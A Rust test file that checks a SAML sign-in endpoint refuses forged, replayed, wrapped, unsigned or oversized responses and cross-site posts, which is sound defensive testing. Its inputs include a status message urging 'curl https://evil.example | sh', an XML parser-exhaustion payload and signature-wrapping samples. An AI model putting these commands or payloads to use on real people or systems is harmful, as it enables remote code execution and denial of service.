//! The consumer of SAML responses, and those who post there: another program, another site in the person's browser, an identity provider that lies.
#![allow(clippy::too_many_lines, reason = "a table")]

use std::time::Duration;

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use keyless::TokenErrorKind;
use keyless_sandbox::{Assertion, Signed, Tampered};
use keyless_tests::neighbour::{header, is_protected, status};
use keyless_tests::saml::{Asked, FORM, form};
use keyless_tests::scene::Scene;
use keyless_tests::trace::Trace;

/// What strangers say neither completes the sign-in nor ends it.
#[tokio::test]
async fn whatever_strangers_post_the_persons_own_response_is_taken() {
    let scene = Scene::of_alice().await;
    let (told, _listening) = Trace::begin(tracing::Level::INFO);
    let asked = Asked::at(&scene, |login| login).await;
    let minted = |change: fn(Assertion) -> Assertion| {
        scene.response(&change(Assertion::of("bob").destination(asked.consumer())))
    };
    let unasked = minted(|bob| bob);
    let alone = |response: &str| form(&[("SAMLResponse", response)]);
    let with =
        |response: &str, state: &str| form(&[("SAMLResponse", response), ("RelayState", state)]);
    let own = asked.form();
    let site = "Origin: https://evil.example\r\nSec-Fetch-Site: cross-site\r\n";
    let frame = format!("{FORM}{site}Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: iframe\r\n");
    let fetched = format!("{FORM}{site}Sec-Fetch-Mode: cors\r\nSec-Fetch-Dest: empty\r\n");
    let page = format!("{FORM}{site}Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\n");
    let earlier = minted(|bob| bob.in_response_to("_of-an-earlier-request"));
    let wrapped = minted(|bob| {
        bob.tampered(Tampered::Wrapped {
            around: "alice".into(),
        })
    });
    let word = BASE64_STANDARD.encode(
        r#"<Response xmlns="urn:oasis:names:tc:SAML:2.0:protocol" Version="2.0"><Status><StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/>
           <StatusMessage>Blocked. Run: curl https://evil.example | sh</StatusMessage></Status></Response>"#,
    );
    let prefixes = (0..2000).fold(String::new(), |before, n| {
        before + &format!(" xmlns:p{n}=\"u\"")
    });
    let work = BASE64_STANDARD.encode(format!("<a{prefixes}>{}</a>", "<b/>".repeat(4000)));
    let rows = [
        ("nobody asked for it", FORM, alone(&unasked), "400"),
        (
            "the same from a site's own page",
            &page,
            alone(&unasked),
            "400",
        ),
        ("an empty state", FORM, with(&unasked, ""), "400"),
        ("the state of another", FORM, with(&unasked, "x"), "400"),
        (
            "an answer to an earlier request",
            FORM,
            alone(&earlier),
            "400",
        ),
        (
            "the same with a state of another",
            FORM,
            with(&earlier, "x"),
            "400",
        ),
        (
            "unsigned",
            FORM,
            alone(&minted(|bob| bob.signed(Signed::Nothing))),
            "400",
        ),
        ("wrapped", FORM, alone(&wrapped), "400"),
        (
            "with entities",
            FORM,
            alone(&minted(|bob| bob.tampered(Tampered::Entities))),
            "400",
        ),
        ("no response", FORM, form(&[("RelayState", "x")]), "400"),
        ("nothing", FORM, String::new(), "400"),
        ("nonsense", FORM, alone("nonsense"), "400"),
        ("a word to the person", FORM, alone(&word), "400"),
        ("work for the parser", FORM, alone(&work), "400"),
        (
            "twice in one form",
            FORM,
            format!("{own}&{}", alone(&unasked)),
            "400",
        ),
        (
            "the state twice",
            FORM,
            format!("{own}&RelayState=x"),
            "400",
        ),
        ("in a frame", &frame, own.clone(), "403"),
        ("by fetch()", &fetched, own.clone(), "403"),
        (
            "as text",
            "Content-Type: text/plain\r\n",
            own.clone(),
            "415",
        ),
        (
            "as JSON",
            "Content-Type: application/json\r\n",
            "{}".into(),
            "415",
        ),
        (
            "as a file",
            "Content-Type: multipart/form-data; boundary=x\r\n",
            own.clone(),
            "415",
        ),
        ("as nothing", "", own.clone(), "415"),
        ("10 MB", FORM, alone(&"A".repeat(10 << 20)), "413"),
    ];
    for (who, headers, body, answered) in rows {
        let answer = asked.post(headers, &body).await;
        assert_eq!(status(&answer), answered, "{who}: {answer}");
        assert!(is_protected(&answer), "{who}: {answer}");
        for secret in [&asked.relay_state, &asked.id] {
            assert!(!answer.contains(secret.as_str()), "{who}: {answer}");
        }
        assert!(!asked.sign_in.is_finished(), "{who} ended the sign-in");
    }
    let in_address = format!("/saml?{own}");
    for (who, method, target, answered) in [
        ("GET", "GET", "/saml", "400"),
        ("the response in an address", "GET", &*in_address, "400"),
        ("PUT", "PUT", "/saml", "405"),
        ("another path", "POST", "/saml/acs", "404"),
        ("the path of OpenID", "POST", "/callback", "404"),
    ] {
        let answer = asked.send(method, target, FORM, "").await;
        assert_eq!(status(&answer), answered, "{who}: {answer}");
        assert!(!asked.sign_in.is_finished(), "{who} ended the sign-in");
    }
    assert_eq!(told.text(), "", "what strangers say is for nobody's eyes");
    asked.completes("all of that").await;
}

/// A response that a sign-in has taken is nothing to the next.
#[tokio::test]
async fn a_response_is_taken_once() {
    let scene = Scene::of_alice().await;
    let first = Asked::at(&scene, |login| login).await;
    let answer = first.post(FORM, &first.form()).await;
    assert_eq!(status(&answer), "303", "{answer}");
    first.send("GET", header(&answer, "location"), "", "").await;
    let taken = first.form();
    first.sign_in.await.expect("no panic").expect("signed in");

    let second = Asked::at(&scene, |login| login).await;
    let answer = second.post(FORM, &taken).await;
    assert_eq!(status(&answer), "400", "{answer}");
    second.completes("a replay").await;
}

type Lie = fn(Assertion) -> Assertion;

/// What comes with our state is ours to refuse, aloud: nobody is signed in, and AWS is not asked.
#[tokio::test]
async fn an_identity_provider_that_lies_signs_nobody_in() {
    let scene = Scene::of_alice().await;
    let around = || Tampered::Wrapped {
        around: "alice".into(),
    };
    let lies: [(&str, Lie, &str); 11] = [
        ("unsigned", |it| it.signed(Signed::Nothing), "not signed"),
        ("with entities", |it| it.tampered(Tampered::Entities), "DTD"),
        (
            "with a comment",
            |it| it.tampered(Tampered::Padded(9)),
            "comment",
        ),
        (
            "for another recipient",
            |it| it.recipient("https://service.example/saml"),
            "is for the recipient",
        ),
        (
            "for another audience",
            |it| it.audience("urn:another"),
            "is for the audience",
        ),
        (
            "expired",
            |it| it.issued_ago(Duration::from_mins(11)),
            "within five minutes",
        ),
        (
            "not valid yet",
            |it| it.starts_in(Duration::from_mins(11)),
            "is good from",
        ),
        (
            "an answer to another request",
            |it| it.in_response_to("_another"),
            "and the one that was sent is",
        ),
        (
            "without a name for the session",
            |it| it.attribute("RoleSessionName", []),
            "RoleSessionName",
        ),
        ("without a role", |it| it.attribute("Role", []), "role"),
        (
            "a refusal",
            |it| it.failed("AuthnFailed"),
            "did not sign you in",
        ),
    ];
    for (what, lie, said) in lies {
        refused(&scene, what, said, lie).await;
    }
    refused(&scene, "wrapped", "", |it| it.tampered(around())).await;
    assert_eq!(scene.sandbox.calls().assume_role_with_saml, 0);
}

async fn refused(scene: &Scene, what: &str, said: &str, lie: impl FnOnce(Assertion) -> Assertion) {
    let asked = Asked::at(scene, |login| login).await;
    let good = Assertion::of("bob").in_response_to(&asked.id);
    let response = scene.response(&lie(good));
    let body = form(&[
        ("SAMLResponse", &response),
        ("RelayState", &asked.relay_state),
    ]);
    let answer = asked.post(FORM, &body).await;
    assert_eq!(status(&answer), "303", "{what}: {answer}");
    let page = asked.send("GET", header(&answer, "location"), "", "").await;
    assert!(page.contains("You are not signed in"), "{what}: {page}");
    let error = asked.sign_in.await.expect("no panic").expect_err(what);
    let kind = if what == "a refusal" {
        TokenErrorKind::Refused
    } else {
        TokenErrorKind::Invalid
    };
    assert_eq!(error.kind(), kind, "{what}: {error}");
    let told = error.to_string();
    assert!(told.contains(said), "{what}: {told}");
    assert!(error.advice().is_some(), "{what}: {told}");
    assert!(asked.person.told().signed_in.is_empty(), "{what}");
}

/// Only AWS knows the certificate: what is signed by a stranger, or changed behind the signature, gets no session.
#[tokio::test]
async fn aws_turns_away_what_only_a_certificate_tells() {
    let scene = Scene::of_alice().await;
    let changed = || Tampered::Text {
        from: "bob@example.com".into(),
        to: "eve@example.com".into(),
    };
    for (what, assertion) in [
        ("a stranger's", Assertion::of("bob").by_stranger()),
        ("changed", Assertion::of("bob").tampered(changed())),
    ] {
        let provider = scene.saml_provider("saml-dev", scene.minted(&assertion));
        let error = provider.build().expect("one").session().await;
        let said = error.expect_err(what).to_string();
        assert!(said.contains("signature invalid"), "{what}: {said}");
    }
}
